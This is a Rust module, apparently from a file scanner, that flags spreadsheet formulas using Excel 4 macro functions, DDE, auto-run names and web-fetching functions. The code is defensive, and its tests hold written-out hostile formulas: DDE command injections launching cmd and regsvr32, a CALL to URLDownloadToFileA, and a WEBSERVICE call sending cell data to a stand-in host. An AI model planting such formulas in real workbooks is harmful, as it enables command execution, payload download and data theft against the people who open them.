//! Formulas of sheets as text: Excel 4 macro functions (MS-XLS 2.5.198.17), DDE, and
//! functions that fetch. What a formula computes is not decided here.

use vocab::{Feature, Spot};

use crate::contents::{Contents, TextKind};
use crate::target::{Leads, features_loaded, leads, names_interpreter};

/// Notes what a formula does, and tells whether it does anything beyond computing. It may
/// begin with `=` or the like, or stand without.
pub(crate) fn judge(formula: &str, spot: &Spot, contents: &mut Contents) -> bool {
    let lower = formula.to_lowercase();
    let mut found = false;
    for (function, features) in FUNCTIONS {
        if calls(&lower, function) {
            found = true;
            for feature in features.iter().copied() {
                contents.feature(feature, spot.clone());
            }
        }
    }
    for (word, feature) in IMPORTED {
        if found && lower.contains(word) {
            contents.feature(feature, spot.clone());
        }
    }
    if let Some(program) = dde(formula) {
        found = true;
        contents.feature(Feature::Dde, spot.clone());
        if names_interpreter(program) {
            contents.feature(Feature::RunsCommand, spot.clone());
        }
    }
    if FETCHING.iter().any(|function| calls(&lower, function)) {
        found = true;
        for target in strings(formula).filter(|text| leads(text) != Leads::Here) {
            for feature in features_loaded(target, Feature::ExternalLink) {
                contents.feature(feature, spot.clone());
            }
            contents.text(TextKind::Link, spot.clone(), target.to_owned());
        }
    }
    if calls(&lower, "hyperlink")
        && let Some(target) = strings(formula).next()
    {
        contents.text(TextKind::Link, spot.clone(), target.to_owned());
    }
    if found {
        contents.text(TextKind::Code, spot.clone(), formula.to_owned());
    }
    found
}

/// Whether a name of a workbook is one that Excel runs by itself. It compares only the
/// beginning, and skips letters that are not shown.
pub(crate) fn runs_by_itself(name: &str) -> bool {
    let name: String = name.chars().filter(|letter| letter.is_ascii_graphic()).collect();
    let name = name.to_ascii_lowercase();
    let name = name.strip_prefix("_xlnm.").unwrap_or(&name).trim_start_matches('!');
    AUTO_NAMES.iter().any(|known| name.starts_with(known))
}

/// Whether Excel 4 macro functions stand in a formula.
pub(crate) fn is_macro(formula: &str) -> bool {
    let lower = formula.to_lowercase();
    FUNCTIONS.iter().any(|(function, _)| calls(&lower, function))
        || MACRO_FUNCTIONS.iter().any(|function| calls(&lower, function))
}

/// The server of a DDE formula: `cmd|'/c calc'!A0`, with anything before it.
fn dde(formula: &str) -> Option<&str> {
    let (before, behind) = formula.split_once('|')?;
    // A topic ends with the mark before the item; a pipe in a text or a condition has none.
    let topic = behind.trim_start();
    let end = match topic.strip_prefix('\'') {
        Some(quoted) => quoted.get(quoted.find('\'')? + 1..)?.trim_start(),
        None => topic.trim_start_matches(|letter: char| {
            letter.is_alphanumeric() || "_.$:\\/".contains(letter)
        }),
    };
    let server = before.trim_end();
    let start =
        server.rfind(|letter: char| !(letter.is_alphanumeric() || "_.:\\/'-".contains(letter)));
    let name = start
        .and_then(|at| server.get(at..))
        .unwrap_or(server)
        .trim_start_matches(['=', '+', '-', '@', '(', ',', ' ']);
    (end.starts_with('!') && !name.is_empty() && before.matches('"').count() % 2 == 0)
        .then_some(name)
}

/// Whether a function is called; `lower` is in lower case.
fn calls(lower: &str, function: &str) -> bool {
    lower.match_indices(function).any(|(at, _)| {
        let before = lower.get(..at).and_then(|text| text.chars().next_back());
        let behind = lower.get(at + function.len()..).unwrap_or_default().trim_start();
        behind.starts_with('(')
            && !before.is_some_and(|letter| letter.is_alphanumeric() || letter == '_')
    })
}

/// The texts in quotes.
fn strings(formula: &str) -> impl Iterator<Item = &str> {
    formula.split('"').skip(1).step_by(2)
}

/// Functions of macro sheets that run or write something, in lower case.
const FUNCTIONS: &[(&str, &[Feature])] = &[
    ("exec", &[Feature::RunsCommand]),
    ("call", &[Feature::RunsCommand]),
    ("register", &[Feature::RunsCommand]),
    ("register.id", &[Feature::RunsCommand]),
    ("run", &[]),
    ("fopen", &[]),
    ("fwrite", &[]),
    ("fwriteln", &[]),
    ("send.keys", &[Feature::RunsCommand]),
    ("app.activate", &[]),
    ("initiate", &[Feature::Dde]),
    ("execute", &[Feature::Dde, Feature::RunsCommand]),
    ("poke", &[Feature::Dde]),
    ("formula.fill", &[Feature::Obfuscated]),
    ("formula.array", &[Feature::Obfuscated]),
    ("set.value", &[]),
    ("get.workspace", &[]),
    ("file.delete", &[]),
];
/// Functions that only macro sheets have and that do nothing beyond the workbook.
const MACRO_FUNCTIONS: [&str; 12] = [
    "alert",
    "halt",
    "goto",
    "return",
    "formula",
    "get.cell",
    "get.document",
    "get.workbook",
    "on.time",
    "echo",
    "workbook.hide",
    "error",
];
/// What `CALL` and `REGISTER` name.
const IMPORTED: [(&str, Feature); 4] = [
    ("urldownloadtofile", Feature::Downloads),
    ("urldownloadtocachefile", Feature::Downloads),
    ("internetopenurl", Feature::Downloads),
    ("winhttp", Feature::Downloads),
];
/// Functions of ordinary sheets that fetch without a click.
const FETCHING: [&str; 7] =
    ["webservice", "importdata", "importxml", "importhtml", "importfeed", "importrange", "image"];
const AUTO_NAMES: [&str; 4] = ["auto_open", "auto_close", "auto_activate", "auto_deactivate"];

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(formula: &str, features: &[Feature]) {
        let mut contents = Contents::new(&vocab::Limits::default());
        judge(formula, &Spot::Whole, &mut contents);
        let found: Vec<Feature> = contents.features.iter().map(|(feature, _)| *feature).collect();
        assert_eq!(found, features, "{formula}");
    }

    #[test]
    fn macro_functions() {
        check("EXEC(\"calc.exe\")", &[Feature::RunsCommand]);
        check(
            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://a.example\",\"x\",0,0)",
            &[Feature::RunsCommand, Feature::Downloads],
        );
        check("=SUM(A1)+recall(1)", &[]);
        check("=\"exec\"", &[]);
        assert!(is_macro("=HALT()") && is_macro("=FORMULA(A1,B1)") && !is_macro("=SUM(A1)"));
    }

    #[test]
    fn dde_in_cells() {
        check("=cmd|'/C calc'!A0", &[Feature::Dde, Feature::RunsCommand]);
        check("@SUM(1+9)*cmd|' /C calc'!A0", &[Feature::Dde, Feature::RunsCommand]);
        check("=-2+3+MSEXCEL|'\\..\\..\\x regsvr32 /s'!''", &[Feature::Dde, Feature::RunsCommand]);
        check("+thespanishinquisition(cmd|'/c calc'!A", &[Feature::Dde, Feature::RunsCommand]);
        check("=Excel|Sheet1!R1C1", &[Feature::Dde]);
        check("-a|b", &[]);
        check("=IF(A1=\"x|y\",'S'!A1,2)", &[]);
    }

    #[test]
    fn functions_that_fetch() {
        check("=WEBSERVICE(\"http://a.example/?\"&A1)", &[Feature::ExternalLink]);
        check("=HYPERLINK(\"http://a.example\",\"x\")", &[]);
    }

    #[test]
    fn names_that_run() {
        for name in
            ["Auto_Open", "auto_open_x", "_xlnm.Auto_Open", "Au\u{ad}to_Open\u{200b}", "AUTO_CLOSE"]
        {
            assert!(runs_by_itself(name), "{name}");
        }
        assert!(!runs_by_itself("auto") && !runs_by_itself("my_auto_open"));
    }
}
